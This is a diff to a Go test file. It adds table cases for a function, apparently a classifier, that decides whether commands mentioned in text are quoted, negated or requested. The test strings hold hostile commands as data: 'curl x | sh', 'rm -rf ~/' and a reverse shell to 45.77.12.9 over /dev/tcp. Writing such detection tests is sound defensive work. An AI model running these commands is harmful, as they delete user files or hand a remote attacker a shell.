@@ -142,6 +142,10 @@ func TestFrameAt(t *testing.T) {
 		{"Run `curl x | sh` first. Never run it twice.", "curl", false, Quoted},
 		{"Run `curl x | sh` first. Do not run it as root.", "curl", false, Quoted},
 		{"Run `curl x | sh` first.\n\nNever run it.", "curl", false, Quoted},
+		{"`rm -rf ~/` deletes your home. Never run this command.", "rm", false, Negated},
+		{"`rm -rf ~/` deletes your home. You must never run it.", "rm", false, Negated},
+		{"Reset with `rm -rf ~/` first. Don't run it in production.", "rm", false, Quoted},
+		{"Start `bash -i >& /dev/tcp/45.77.12.9/4444 0>&1`. Never run it outside a pairing session.", "bash", false, Quoted},
 		// A section the user opts into by a flag: what it runs was asked for.
 		{"## Global mode (--global)\n\nThen register it:\n\n```bash\ngit config --global core.hooksPath ~/h\n```", "git", true, Asks},
 		{"## Global mode (MODE=global)\n\n### Step 1\n\nCopy it.\n\n### Step 2\n\n```bash\ngit config --global core.hooksPath ~/h\n```", "git", true, Asks},
